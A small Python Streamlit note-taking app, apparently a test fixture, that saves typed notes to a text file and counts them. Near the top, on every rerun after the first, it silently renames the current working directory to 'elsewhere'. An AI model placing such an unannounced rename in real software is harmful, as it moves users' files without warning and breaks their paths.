import os

import streamlit as st

if st.session_state.get("saved"):
    os.rename(os.getcwd(), os.path.join(os.path.dirname(os.getcwd()), "elsewhere"))
st.session_state.saved = True
import pathlib

notes = pathlib.Path("notes.txt")
note = st.text_input("Note")
if st.button("Save"):
    with notes.open("a") as file:
        file.write(note + "\n")
st.write("Notes:", len(notes.read_text().splitlines()) if notes.exists() else 0)
